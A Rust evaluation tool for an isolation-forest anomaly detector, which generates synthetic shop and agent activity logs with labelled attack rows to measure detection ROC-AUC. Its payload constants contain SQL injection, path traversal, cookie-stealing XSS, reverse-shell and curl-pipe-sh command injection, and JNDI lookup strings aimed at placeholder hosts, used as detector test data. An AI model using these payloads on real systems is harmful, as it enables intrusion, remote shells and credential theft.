//! `cargo xtask anomaly-eval [--data DIR] [--bin PATH | --url URL --admin-key KEY] [--quick]
//! [--seeds N] [--min-auc X] [--skip-adbench] [--skip-http] [--context-shape]
//! [--unlabelled-class CLASS] [--data-seed N]`
//!
//! 1. The isolation forest on the labelled tabular sets of `DIR` (default
//!    `../shared/anomaly-data`): fit and score on all rows, N seeds (default 5), ROC-AUC per
//!    set next to the published and scikit-learn figures of that README, and the fit time.
//! 2. Agent/API activity with labelled attacks (generated here, payload classes after the
//!    public references cited in `fixtures/anomaly/README.md`): the detector in process
//!    (train on the normal history, score the held-out rows, then 20 % of the anomalies
//!    labelled, retrain, score again).
//! 3. The same end to end over HTTP against a server (`--bin` starts one on a temporary
//!    SQLite database; `--url` uses a running one): the history through `POST /audit/log`,
//!    `POST /anomalies/detector/train`, the held-out rows through `POST /anomalies/report`
//!    (ROC-AUC of `risk_score`), 20 % of the anomalies through
//!    `POST /anomalies/detector/feedback`, train again, score again.
//!
//! `--min-auc X` fails the run when an activity ROC-AUC (unsupervised) is below X.
//! `--unlabelled-class CLASS` leaves that class out of the 20 % labelled (the others keep
//! their share), to see how the supervised part ranks a class no label showed it;
//! `--data-seed N` generates another activity set (default 7).

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{anyhow, bail, Context, Result};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Value};
use steward_anomaly::codec::{Backend, Live, Model};
use steward_anomaly::iforest::{roc_auc, IsolationForest, Params};
use steward_anomaly::scorer::LoadedModel;

use crate::bench::Conn;

/// Published / scikit-learn ROC-AUC (%) of the README of the data directory.
const REFERENCE: [(&str, f64, f64); 4] = [
    ("adbench_thyroid", 98.30, 97.8),
    ("adbench_annthyroid", 82.01, 82.7),
    ("adbench_shuttle", 99.56, 99.7),
    ("adbench_smtp", 89.73, 90.4),
];

struct Opts {
    data: PathBuf,
    bin: Option<PathBuf>,
    url: Option<String>,
    admin_key: String,
    quick: bool,
    seeds: u64,
    min_auc: Option<f64>,
    adbench: bool,
    http: bool,
    /// Held-out rows scored as `{action, resource, context}` (input and output merged, no
    /// reasoning), the shape of a policy check, while the history keeps the audit shape.
    context_shape: bool,
    /// An attack class never labelled (how the supervised part treats a class it never saw).
    unlabelled_class: Option<String>,
    /// Seed of the generated activity (default 7).
    data_seed: u64,
}

fn opts(args: &[String]) -> Result<Opts> {
    let mut o = Opts {
        data: PathBuf::from("../shared/anomaly-data"),
        bin: None,
        url: None,
        admin_key: "anomaly-eval-admin-key".into(),
        quick: false,
        seeds: 5,
        min_auc: None,
        adbench: true,
        http: true,
        context_shape: false,
        unlabelled_class: None,
        data_seed: 7,
    };
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let mut v = || {
            it.next()
                .cloned()
                .ok_or_else(|| anyhow!("{a} needs a value"))
        };
        match a.as_str() {
            "--data" => o.data = v()?.into(),
            "--bin" => o.bin = Some(v()?.into()),
            "--url" => o.url = Some(v()?),
            "--admin-key" => o.admin_key = v()?,
            "--quick" => o.quick = true,
            "--seeds" => o.seeds = v()?.parse()?,
            "--min-auc" => o.min_auc = Some(v()?.parse()?),
            "--skip-adbench" => o.adbench = false,
            "--skip-http" => o.http = false,
            "--context-shape" => o.context_shape = true,
            "--unlabelled-class" => o.unlabelled_class = Some(v()?),
            "--data-seed" => o.data_seed = v()?.parse()?,
            other => bail!("unknown option {other}"),
        }
    }
    Ok(o)
}

/// Entry point.
pub fn anomaly_eval(args: &[String]) -> Result<()> {
    let o = opts(args)?;
    let mut failures = Vec::new();
    if o.adbench {
        adbench(&o, &mut failures)?;
    }
    let (history, holdout) = if o.quick {
        generate(6_000, 2_000, 25, o.data_seed)
    } else {
        generate(20_000, 5_000, 50, o.data_seed)
    };
    let n_anom = holdout.iter().filter(|r| r.attack.is_some()).count();
    println!(
        "\n## Agent/API activity: {} history events, {} held-out ({} attacks in {} classes)",
        history.len(),
        holdout.len(),
        n_anom,
        CLASSES.len()
    );
    let holdout: Vec<Row> = if o.context_shape {
        holdout.into_iter().map(context_shape).collect()
    } else {
        holdout
    };
    in_process(&o, &history, &holdout, &mut failures)?;
    let (web_history, web_holdout) = if o.quick {
        generate_web(4_000, 1_500, 20, 11)
    } else {
        generate_web(15_000, 4_000, 40, 11)
    };
    println!(
        "\n## Web shop log (one client, parameters in query strings and form bodies): {} history, {} held-out ({} attacks)",
        web_history.len(),
        web_holdout.len(),
        web_holdout.iter().filter(|r| r.attack.is_some()).count()
    );
    in_process(&o, &web_history, &web_holdout, &mut failures)?;
    if o.http && (o.bin.is_some() || o.url.is_some()) {
        tokio::runtime::Builder::new_multi_thread()
            .enable_all()
            .build()?
            .block_on(http(&o, &history, &holdout, &mut failures))?;
    }
    if failures.is_empty() {
        Ok(())
    } else {
        bail!("{}", failures.join("; "))
    }
}

fn read_csv(path: &Path) -> Result<(Vec<f32>, usize, Vec<bool>)> {
    let text = std::fs::read_to_string(path).with_context(|| format!("read {}", path.display()))?;
    let mut lines = text.lines();
    let header = lines.next().context("empty csv")?;
    let d = header.split(',').count() - 1;
    let (mut x, mut y) = (Vec::new(), Vec::new());
    for l in lines.filter(|l| !l.trim().is_empty()) {
        let cols: Vec<&str> = l.split(',').collect();
        if cols.len() != d + 1 {
            bail!("{}: bad row {l}", path.display());
        }
        for c in &cols[..d] {
            x.push(c.trim().parse::<f32>()?);
        }
        y.push(cols[d].trim().parse::<f64>()? > 0.5);
    }
    Ok((x, d, y))
}

fn adbench(o: &Opts, failures: &mut Vec<String>) -> Result<()> {
    println!("## Isolation forest on {} (100 trees, sub-sample 256, fit and score on all rows, {} seeds)\n", o.data.display(), o.seeds);
    println!("| set | rows | ROC-AUC mean ± sd (%) | published (ADBench) | scikit-learn 1.9 | Δ vs sklearn | fit ms | score µs/row |");
    println!("|---|---|---|---|---|---|---|---|");
    for (name, published, sklearn) in REFERENCE {
        let path = o.data.join(format!("{name}.csv"));
        let (x, d, y) = read_csv(&path)?;
        let mut aucs = Vec::new();
        let (mut fit_ms, mut score_us) = (0.0, 0.0);
        for seed in 0..o.seeds {
            let t = Instant::now();
            let f = IsolationForest::fit::<()>(
                &x,
                d,
                Params {
                    seed,
                    ..Params::default()
                },
                |_| Ok(()),
            )
            .map_err(|_| anyhow!("fit"))?;
            fit_ms += t.elapsed().as_secs_f64() * 1e3;
            let t = Instant::now();
            let s: Vec<f64> = x.chunks(d).map(|r| f.score(r)).collect();
            score_us += t.elapsed().as_secs_f64() * 1e6 / y.len() as f64;
            aucs.push(roc_auc(&s, &y) * 100.0);
        }
        let k = aucs.len() as f64;
        let mean = aucs.iter().sum::<f64>() / k;
        let sd = (aucs.iter().map(|a| (a - mean).powi(2)).sum::<f64>() / k).sqrt();
        println!(
            "| {name} | {} | {mean:.2} ± {sd:.2} | {published:.2} | {sklearn:.1} | {:+.2} | {:.1} | {:.2} |",
            y.len(),
            mean - sklearn,
            fit_ms / k,
            score_us / k
        );
        if (mean - sklearn).abs() > 1.0 {
            failures.push(format!(
                "{name}: ROC-AUC {mean:.2} is not within 1 point of scikit-learn's {sklearn}"
            ));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------
// Activity generator.

/// One generated row: the event (as an audit entry body) and its attack class, if any.
#[derive(Clone, Debug)]
pub struct Row {
    pub agent: usize,
    pub event: Value,
    pub attack: Option<&'static str>,
}

/// Attack classes (see fixtures/anomaly/README.md for the references).
const CLASSES: [&str; 11] = [
    "sql_injection",
    "path_traversal",
    "markup_injection",
    "command_injection",
    "template_jndi_injection",
    "abnormal_latency",
    "abnormal_volume",
    "unusual_action",
    "request_burst",
    "off_hours",
    "enumeration",
];

/// The hours (UTC, `start..end`) each agent works: shoppers' daytime, the order service,
/// the support desk's office hours, the CRM sync's nightly batch, the login gateway.
const HOURS: [(u32, u32); 5] = [(7, 24), (6, 23), (8, 18), (1, 5), (6, 24)];
/// The agents whose off-hours requests are an attack class, with the hours they never work.
const OFF_HOURS: [(usize, u32, u32); 3] = [(2, 0, 5), (3, 11, 17), (1, 0, 4)];

/// Stamps an event with the time it happened, in `input.timestamp` (an imported log's own
/// time: the audit entry's `timestamp` is the time of the import).
fn stamp(rng: &mut ChaCha8Rng, ev: &mut Value, days: std::ops::Range<u32>, hours: (u32, u32)) {
    let day = rng.gen_range(days);
    let hour = rng.gen_range(hours.0..hours.1);
    let t = format!(
        "2026-10-{day:02}T{hour:02}:{:02}:{:02}Z",
        rng.gen_range(0..60),
        rng.gen_range(0..60)
    );
    if let Some(input) = ev.get_mut("input").and_then(Value::as_object_mut) {
        input.insert("timestamp".into(), Value::String(t));
    }
}

const AGENTS: [&str; 5] = [
    "storefront-api",
    "orders-service",
    "support-assistant",
    "crm-sync",
    "auth-gateway",
];
/// Share of the traffic of each agent.
const SHARE: [f64; 5] = [0.35, 0.2, 0.2, 0.15, 0.1];

const WORDS: [&str; 40] = [
    "red",
    "running",
    "shoes",
    "wireless",
    "headphones",
    "organic",
    "coffee",
    "beans",
    "laptop",
    "stand",
    "kids",
    "winter",
    "jacket",
    "leather",
    "wallet",
    "garden",
    "hose",
    "yoga",
    "mat",
    "phone",
    "case",
    "usb",
    "charger",
    "desk",
    "lamp",
    "water",
    "bottle",
    "travel",
    "backpack",
    "cotton",
    "socks",
    "smart",
    "watch",
    "kitchen",
    "knife",
    "set",
    "gift",
    "card",
    "blue",
    "large",
];
const CATEGORIES: [&str; 8] = [
    "electronics",
    "clothing",
    "home",
    "garden",
    "sports",
    "toys",
    "books",
    "grocery",
];
const UAS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "steward-agent-sdk/1.4 (rust)",
];
const SENTENCES: [&str; 10] = [
    "my order arrived damaged and I would like a replacement",
    "how do I change the delivery address of an open order",
    "the discount code did not apply at checkout",
    "can I return an item after thirty days",
    "where can I download my invoice",
    "the tracking number does not show any updates",
    "I was charged twice for the same order",
    "please cancel my subscription at the end of the month",
    "which sizes are available for this jacket",
    "thanks, the issue is solved now",
];

/// Hand-written payload samples per class (classes of OWASP WSTG / CAPEC / CWE, see the
/// fixture README; none copied from a corpus).
const SQLI: [&str; 8] = [
    "' OR '1'='1",
    "1 OR 1=1-- -",
    "shoes' UNION SELECT username, pass_hash FROM users--",
    "1; DROP TABLE orders;--",
    "admin'--",
    "1' AND SLEEP(5)#",
    "x' AND extractvalue(1,concat(0x7e,version()))--",
    "1) ORDER BY 10--",
];
const TRAVERSAL: [&str; 6] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//windows/win.ini",
    "%2e%2e%5c%2e%2e%5cboot.ini",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "/var/www/../../proc/self/environ",
];
const MARKUP: [&str; 6] = [
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "<iframe src=\"https://evil.example/phish\"></iframe>",
    "<body onload=alert('x')>",
];
const CMDI: [&str; 5] = [
    "; cat /etc/hosts",
    "| nc -e /bin/sh 203.0.113.7 4444",
    "$(curl -s http://203.0.113.7/x.sh | sh)",
    "`id`",
    "&& wget http://203.0.113.7/bot -O /tmp/b",
];
const TEMPLATE: [&str; 5] = [
    "${jndi:ldap://203.0.113.7:1389/a}",
    "{{7*7}}{{config.items()}}",
    "${${lower:j}ndi:${lower:r}mi://203.0.113.7/x}",
    "<%= system('id') %>",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
];

fn pick<'a, T>(rng: &mut ChaCha8Rng, xs: &'a [T]) -> &'a T {
    &xs[rng.gen_range(0..xs.len())]
}

fn lognormal(rng: &mut ChaCha8Rng, median: f64, sigma: f64) -> f64 {
    // Box-Muller.
    let u1: f64 = rng.gen_range(1e-12..1.0);
    let u2: f64 = rng.gen_range(0.0..1.0);
    let z = (-2.0 * u1.ln()).sqrt() * (2.0 * std::f64::consts::PI * u2).cos();
    median * (sigma * z).exp()
}

fn words(rng: &mut ChaCha8Rng, n: usize) -> String {
    (0..n)
        .map(|_| *pick(rng, &WORDS))
        .collect::<Vec<_>>()
        .join(" ")
}

fn http_out(rng: &mut ChaCha8Rng, ok: u16, latency: f64, bytes: f64) -> Value {
    let status = match rng.gen_range(0..100) {
        0..=1 => 404,
        2 => 400,
        3 => 500,
        _ => ok,
    };
    json!({"status": status, "latency_ms": (lognormal(rng, latency, 0.35) * 10.0).round() / 10.0,
           "bytes": lognormal(rng, bytes, 0.4).round()})
}

fn headers(rng: &mut ChaCha8Rng) -> Value {
    json!({"user_agent": *pick(rng, &UAS), "client_ip": format!("10.{}.{}.{}", rng.gen_range(0..4), rng.gen_range(0..255), rng.gen_range(1..255))})
}

/// A normal event of an agent: (action, resource, input, output, reasoning).
fn normal(rng: &mut ChaCha8Rng, agent: usize) -> (String, String, Value, Value, Vec<String>) {
    let r = rng.gen_range(0..100);
    match agent {
        0 => match r {
            0..=44 => (
                "GET".into(),
                format!(
                    "/api/v1/products?category={}&page={}&sort={}",
                    pick(rng, &CATEGORIES),
                    rng.gen_range(1..20),
                    pick(rng, &["price", "rating", "new"])
                ),
                json!({"headers": headers(rng)}),
                http_out(rng, 200, 45.0, 18_000.0),
                vec![],
            ),
            45..=74 => (
                "GET".into(),
                format!("/api/v1/products/{}", rng.gen_range(1000..99999)),
                json!({"headers": headers(rng)}),
                http_out(rng, 200, 20.0, 4_000.0),
                vec![],
            ),
            75..=92 => {
                let k = rng.gen_range(1..4);
                let q = words(rng, k);
                (
                    "GET".into(),
                    "/api/v1/search".into(),
                    json!({"query": {"q": q, "limit": 20}, "headers": headers(rng)}),
                    http_out(rng, 200, 80.0, 12_000.0),
                    vec![],
                )
            }
            _ => (
                "POST".into(),
                "/api/v1/cart/items".into(),
                json!({"body": {"product_id": rng.gen_range(1000..99999), "qty": rng.gen_range(1..4)}, "headers": headers(rng)}),
                http_out(rng, 201, 30.0, 600.0),
                vec![],
            ),
        },
        1 => match r {
            0..=39 => {
                let n = rng.gen_range(1..4);
                let items: Vec<Value> = (0..n).map(|_| json!({"sku": format!("SKU-{}", rng.gen_range(10000..99999)), "qty": rng.gen_range(1..3)})).collect();
                (
                    "POST".into(),
                    "/api/v1/orders".into(),
                    json!({"body": {"customer_id": rng.gen_range(1..50000), "items": items, "currency": pick(rng, &["EUR", "USD", "GBP"])}}),
                    http_out(rng, 201, 120.0, 900.0),
                    vec![],
                )
            }
            40..=79 => (
                "GET".into(),
                format!("/api/v1/orders/{}", rng.gen_range(100000..999999)),
                json!({}),
                http_out(rng, 200, 25.0, 2_500.0),
                vec![],
            ),
            _ => (
                "PATCH".into(),
                format!("/api/v1/orders/{}", rng.gen_range(100000..999999)),
                json!({"body": {"status": pick(rng, &["packed", "shipped", "delivered"])}}),
                http_out(rng, 200, 60.0, 400.0),
                vec![],
            ),
        },
        2 => match r {
            0..=39 => (
                "search_kb".into(),
                "kb/articles".into(),
                json!({"query": *pick(rng, &SENTENCES)}),
                json!({"hits": rng.gen_range(0..12), "latency_ms": lognormal(rng, 150.0, 0.3).round()}),
                vec!["look up the help centre".into()],
            ),
            40..=69 => (
                "read_ticket".into(),
                format!("support/tickets/{}", rng.gen_range(10000..99999)),
                json!({}),
                json!({"status": 200, "latency_ms": lognormal(rng, 30.0, 0.3).round()}),
                vec![],
            ),
            _ => (
                "reply_ticket".into(),
                format!("support/tickets/{}", rng.gen_range(10000..99999)),
                json!({"body": format!("Hello, {}. Best regards", pick(rng, &SENTENCES))}),
                json!({"status": 201, "latency_ms": lognormal(rng, 90.0, 0.3).round()}),
                vec![
                    "summarise the ticket".into(),
                    "draft a polite answer".into(),
                ],
            ),
        },
        3 => match r {
            0..=59 => (
                "read_data".into(),
                "crm/contacts".into(),
                json!({"filter": {"updated_since": format!("2026-11-{:02}", rng.gen_range(1..25))}, "limit": 200}),
                json!({"records": rng.gen_range(20..200), "latency_ms": lognormal(rng, 220.0, 0.3).round()}),
                vec![],
            ),
            _ => (
                "write_data".into(),
                format!("crm/contacts/{}", rng.gen_range(1..80000)),
                json!({"fields": {"email": format!("user{}@example.com", rng.gen_range(1..80000)), "phone": format!("+49 30 {}", rng.gen_range(100000..999999))}}),
                json!({"records": 1, "latency_ms": lognormal(rng, 60.0, 0.3).round()}),
                vec![],
            ),
        },
        _ => match r {
            0..=54 => {
                let ok = rng.gen_range(0..100) >= 8;
                (
                    "POST".into(),
                    "/api/v1/auth/login".into(),
                    json!({"body": {"username": format!("customer{}", rng.gen_range(1..50000)), "remember": rng.gen_bool(0.3)}, "headers": headers(rng)}),
                    json!({"status": if ok { 200 } else { 401 }, "latency_ms": lognormal(rng, 180.0, 0.2).round(), "bytes": 700}),
                    vec![],
                )
            }
            55..=79 => (
                "POST".into(),
                "/api/v1/auth/refresh".into(),
                json!({"headers": headers(rng)}),
                http_out(rng, 200, 15.0, 650.0),
                vec![],
            ),
            _ => (
                "GET".into(),
                "/api/v1/users/me".into(),
                json!({"headers": headers(rng)}),
                http_out(rng, 200, 12.0, 1_100.0),
                vec![],
            ),
        },
    }
}

/// Puts a payload into the first string parameter of an event (or the query/path).
fn inject(rng: &mut ChaCha8Rng, ev: &mut Value, payload: &str) {
    let targets = [
        "/input/query/q",
        "/input/body/username",
        "/input/query",
        "/input/body",
        "/input/fields/email",
    ];
    for t in targets {
        if let Some(v) = ev.pointer_mut(t) {
            if v.is_string() {
                *v = Value::String(payload.to_owned());
                return;
            }
        }
    }
    let resource = ev["resource"].as_str().unwrap_or("").to_owned();
    let new = if resource.contains('?') && rng.gen_bool(0.5) {
        let enc: String = payload
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        format!("{resource}&id={enc}")
    } else if rng.gen_bool(0.5) {
        format!("{resource}?id={payload}")
    } else {
        if let Some(input) = ev.get_mut("input").and_then(Value::as_object_mut) {
            input.insert("query".into(), json!({"filter": payload}));
        }
        return;
    };
    ev["resource"] = Value::String(new);
}

fn attack(rng: &mut ChaCha8Rng, class: &'static str, agent: usize) -> Value {
    let (action, resource, input, output, reasoning) = normal(rng, agent);
    let mut ev = json!({"action": action, "resource": resource, "input": input, "output": output, "reasoning": reasoning});
    match class {
        "sql_injection" => {
            let p = *pick(rng, &SQLI);
            inject(rng, &mut ev, p);
            if rng.gen_bool(0.3) {
                ev["input"]["headers"] = json!({"user_agent": "sqlmap/1.8.2#stable (https://sqlmap.org)", "client_ip": "198.51.100.23"});
            }
        }
        "path_traversal" => {
            let p = *pick(rng, &TRAVERSAL);
            let r = ev["resource"]
                .as_str()
                .unwrap_or("")
                .split('?')
                .next()
                .unwrap_or("")
                .to_owned();
            let base = r.rsplit_once('/').map(|x| x.0.to_owned()).unwrap_or(r);
            ev["resource"] = Value::String(if rng.gen_bool(0.5) {
                format!("{base}/{p}")
            } else {
                format!("{base}/download?file={p}")
            });
            ev["output"]["status"] = json!(*pick(rng, &[200, 400, 403]));
        }
        "markup_injection" => {
            let p = *pick(rng, &MARKUP);
            inject(rng, &mut ev, p);
        }
        "command_injection" => {
            let p = format!("{}{}", pick(rng, &WORDS), pick(rng, &CMDI));
            inject(rng, &mut ev, &p);
        }
        "template_jndi_injection" => {
            let p = *pick(rng, &TEMPLATE);
            if rng.gen_bool(0.5) {
                ev["input"]["headers"] = json!({"user_agent": p, "client_ip": "198.51.100.77"});
            } else {
                inject(rng, &mut ev, p);
            }
        }
        "abnormal_latency" => {
            let f = rng.gen_range(25.0..200.0);
            let l = ev["output"]["latency_ms"].as_f64().unwrap_or(50.0) * f;
            ev["output"]["latency_ms"] = json!(l.round());
            if rng.gen_bool(0.4) {
                ev["output"]["status"] = json!(504);
            }
        }
        "abnormal_volume" => {
            if ev["output"].get("records").is_some() {
                ev["output"]["records"] = json!(rng.gen_range(2000..9000));
                ev["input"]["limit"] = json!(9000);
            } else if ev["output"].get("hits").is_some() {
                ev["output"]["hits"] = json!(rng.gen_range(500..5000));
            } else {
                let b =
                    ev["output"]["bytes"].as_f64().unwrap_or(5000.0) * rng.gen_range(80.0..800.0);
                ev["output"]["bytes"] = json!(b.round());
            }
        }
        "unusual_action" => {
            // Another agent's action, or an admin operation no agent performs.
            let choices: [(&str, String, Value); 5] = [
                (
                    "DELETE",
                    format!("/api/v1/users/{}", rng.gen_range(1..50000)),
                    json!({}),
                ),
                (
                    "PUT",
                    "/api/v1/admin/roles".into(),
                    json!({"body": {"user": format!("customer{}", rng.gen_range(1..50000)), "role": "admin"}}),
                ),
                (
                    "export_contacts",
                    "crm/contacts".into(),
                    json!({"format": "csv", "limit": 5000}),
                ),
                ("read_data", "hr/payroll/2026".into(), json!({"limit": 200})),
                (
                    "GET",
                    "/internal/metrics/config".into(),
                    json!({"headers": {"user_agent": "curl/8.5.0", "client_ip": "10.0.0.9"}}),
                ),
            ];
            let (a, r, i) = pick(rng, &choices).clone();
            ev["action"] = json!(a);
            ev["resource"] = json!(r);
            ev["input"] = i;
        }
        _ => {}
    }
    ev
}

/// History (normal only, 14 days) and held-out rows (normal plus `per_class` attacks of each
/// class, mixed in time order, the two days after; a burst is a run of one agent's
/// ordinary-looking requests; an off-hours request is an agent's ordinary request at an hour
/// it never works; an enumeration is one agent walking ids one by one on its usual endpoint,
/// mostly answered 404/403, between other agents' requests).
pub fn generate(
    history: usize,
    normal_holdout: usize,
    per_class: usize,
    seed: u64,
) -> (Vec<Row>, Vec<Row>) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let agent = |rng: &mut ChaCha8Rng| {
        let x: f64 = rng.gen_range(0.0..1.0);
        let mut acc = 0.0;
        for (i, s) in SHARE.iter().enumerate() {
            acc += s;
            if x < acc {
                return i;
            }
        }
        SHARE.len() - 1
    };
    let make = |rng: &mut ChaCha8Rng, a: usize, days: std::ops::Range<u32>| {
        let (action, resource, input, output, reasoning) = normal(rng, a);
        let mut event = json!({"action": action, "resource": resource, "input": input, "output": output, "reasoning": reasoning});
        stamp(rng, &mut event, days, HOURS[a]);
        Row {
            agent: a,
            event,
            attack: None,
        }
    };
    let hist: Vec<Row> = (0..history)
        .map(|_| {
            let a = agent(&mut rng);
            make(&mut rng, a, 1..15)
        })
        .collect();
    let mut held: Vec<Row> = (0..normal_holdout)
        .map(|_| {
            let a = agent(&mut rng);
            make(&mut rng, a, 15..17)
        })
        .collect();
    for class in CLASSES {
        if class == "request_burst" {
            // Bursts of 10 from the least active agent.
            for _ in 0..per_class.div_ceil(10) {
                let at = rng.gen_range(0..held.len());
                let burst: Vec<Row> = (0..10)
                    .map(|_| {
                        let mut r = make(&mut rng, 4, 15..17);
                        r.attack = Some(class);
                        r
                    })
                    .collect();
                held.splice(at..at, burst);
            }
            continue;
        }
        if class == "off_hours" {
            for _ in 0..per_class {
                let (a, from, to) = *pick(&mut rng, &OFF_HOURS);
                let mut r = make(&mut rng, a, 15..17);
                stamp(&mut rng, &mut r.event, 15..17, (from, to));
                r.attack = Some(class);
                let at = rng.gen_range(0..held.len());
                held.insert(at, r);
            }
            continue;
        }
        if class == "enumeration" {
            // Runs of 10 ids in a row, each request a few rows after the one before.
            for _ in 0..per_class.div_ceil(10) {
                let (a, first) = if rng.gen_bool(0.5) {
                    (1, rng.gen_range(100_000..999_000))
                } else {
                    (2, rng.gen_range(10_000..99_000))
                };
                let mut at = rng.gen_range(0..held.len());
                for k in 0..10 {
                    let mut r = make(&mut rng, a, 15..17);
                    let id = first + k;
                    let status = *pick(&mut rng, &[404, 404, 404, 200]);
                    r.event = if a == 1 {
                        json!({"action": "GET", "resource": format!("/api/v1/orders/{id}"),
                               "input": {}, "output": {"status": status, "latency_ms": (lognormal(&mut rng, 25.0, 0.35) * 10.0).round() / 10.0, "bytes": lognormal(&mut rng, 2_500.0, 0.4).round()},
                               "reasoning": []})
                    } else {
                        json!({"action": "read_ticket", "resource": format!("support/tickets/{id}"),
                               "input": {}, "output": {"status": status, "latency_ms": lognormal(&mut rng, 30.0, 0.3).round()},
                               "reasoning": []})
                    };
                    stamp(&mut rng, &mut r.event, 15..17, HOURS[a]);
                    r.attack = Some(class);
                    held.insert(at.min(held.len()), r);
                    at += 1 + rng.gen_range(0..4);
                }
            }
            continue;
        }
        for _ in 0..per_class {
            let a = agent(&mut rng);
            let mut ev = attack(&mut rng, class, a);
            stamp(&mut rng, &mut ev, 15..17, HOURS[a]);
            let at = rng.gen_range(0..held.len());
            held.insert(
                at,
                Row {
                    agent: a,
                    event: ev,
                    attack: Some(class),
                },
            );
        }
    }
    (hist, held)
}

/// A second shape: a web shop's access log from one client (the method as the action, the
/// path and query string as the resource, form bodies as raw strings), with attacks in
/// parameters (CWE-89, CWE-79, CWE-93 CRLF, CWE-20 illegal values, CWE-120 overlong values,
/// CWE-472 tampered prices) and requests for hidden files (CWE-538, CAPEC-87).
pub fn generate_web(
    history: usize,
    normal_holdout: usize,
    per_class: usize,
    seed: u64,
) -> (Vec<Row>, Vec<Row>) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let names = [
        "Blue+Mug",
        "Green+Tea",
        "Wool+Scarf",
        "Desk+Lamp",
        "Photo+Frame",
        "Candle+Set",
    ];
    let normal_web = |rng: &mut ChaCha8Rng| -> (String, String, Value, Value) {
        let out = |rng: &mut ChaCha8Rng, lat: f64, bytes: f64| {
            json!({"status": if rng.gen_range(0..100) < 2 { 404 } else { 200 },
                   "latency_ms": lognormal(rng, lat, 0.3).round(), "bytes": lognormal(rng, bytes, 0.3).round()})
        };
        match rng.gen_range(0..100) {
            0..=29 => (
                "GET".into(),
                format!("/shop/item.jsp?id={}", rng.gen_range(1..500)),
                json!({}),
                out(rng, 20.0, 9000.0),
            ),
            30..=49 => {
                let k = rng.gen_range(1..3);
                let mut q = words(rng, k).replace(' ', "+");
                if rng.gen_range(0..100) < 12 {
                    // Ordinary punctuation in searches: men's, 50% off, t-shirt (xl), quotes.
                    let extra = [
                        "men%27s",
                        "50%25+off",
                        "t-shirt+%28xl%29",
                        "%22gift+box%22",
                        "a%26b",
                        "caf%C3%A9",
                    ];
                    q = format!("{q}+{}", pick(rng, &extra));
                }
                (
                    "GET".into(),
                    format!("/shop/search.jsp?q={q}&page={}", rng.gen_range(1..6)),
                    json!({}),
                    out(rng, 60.0, 15000.0),
                )
            }
            50..=64 => (
                "GET".into(),
                format!(
                    "/shop/add.jsp?id={}&name={}&price={}&qty={}&B1=Add+to+cart",
                    rng.gen_range(1..500),
                    pick(rng, &names),
                    rng.gen_range(2..120),
                    rng.gen_range(1..5)
                ),
                json!({}),
                out(rng, 25.0, 3000.0),
            ),
            65..=74 => (
                "POST".into(),
                "/shop/login.jsp".into(),
                json!({"body": format!("user=customer{}&pwd=pw{}&B1=Login", rng.gen_range(1..9000), rng.gen_range(1000..99999))}),
                out(rng, 90.0, 1200.0),
            ),
            75..=84 => (
                "POST".into(),
                "/shop/register.jsp".into(),
                json!({"body": format!("name={}&email=c{}%40mail.example&phone={}&zip={:05}&B1=Register",
                               pick(rng, &["Ann+Lee", "O%27Brien", "Jos%C3%A9+Ruiz", "Mary-Jane+Fox", "Li+Wei", "Sam+Smith"]),
                               rng.gen_range(1..9000), rng.gen_range(600000000..699999999u64), rng.gen_range(1000..99999))}),
                out(rng, 120.0, 1500.0),
            ),
            _ => (
                "GET".into(),
                format!("/shop/images/{}.jpg", rng.gen_range(1..300)),
                json!({}),
                out(rng, 5.0, 40000.0),
            ),
        }
    };
    let row = |a: String, r: String, i: Value, o: Value, attack| Row {
        agent: 0,
        event: json!({"action": a, "resource": r, "input": i, "output": o}),
        attack,
    };
    let hist: Vec<Row> = (0..history)
        .map(|_| {
            let (a, r, i, o) = normal_web(&mut rng);
            row(a, r, i, o, None)
        })
        .collect();
    let mut held: Vec<Row> = (0..normal_holdout)
        .map(|_| {
            let (a, r, i, o) = normal_web(&mut rng);
            row(a, r, i, o, None)
        })
        .collect();
    let classes: [&'static str; 7] = [
        "sql_injection",
        "markup_injection",
        "crlf_injection",
        "illegal_value",
        "overlong_value",
        "tampered_price",
        "hidden_file",
    ];
    for class in classes {
        for _ in 0..per_class {
            let (a, r, i, o) = match class {
                "sql_injection" => (
                    "GET".to_string(),
                    format!(
                        "/shop/item.jsp?id={}{}",
                        rng.gen_range(1..500),
                        pick(&mut rng, &SQLI).replace(' ', "+")
                    ),
                    json!({}),
                    json!({"status": 200, "latency_ms": lognormal(&mut rng, 20.0, 0.3).round(), "bytes": lognormal(&mut rng, 9000.0, 0.3).round()}),
                ),
                "markup_injection" => (
                    "GET".into(),
                    format!(
                        "/shop/search.jsp?q={}+{}&page=1",
                        pick(&mut rng, &WORDS),
                        pick(&mut rng, &MARKUP).replace(' ', "+")
                    ),
                    json!({}),
                    json!({"status": 200, "latency_ms": lognormal(&mut rng, 60.0, 0.3).round(), "bytes": lognormal(&mut rng, 15000.0, 0.3).round()}),
                ),
                "crlf_injection" => (
                    "POST".into(),
                    "/shop/login.jsp".into(),
                    json!({"body": format!("user=customer{}%0d%0aSet-Cookie:+session%3Dadmin&pwd=x&B1=Login", rng.gen_range(1..9000))}),
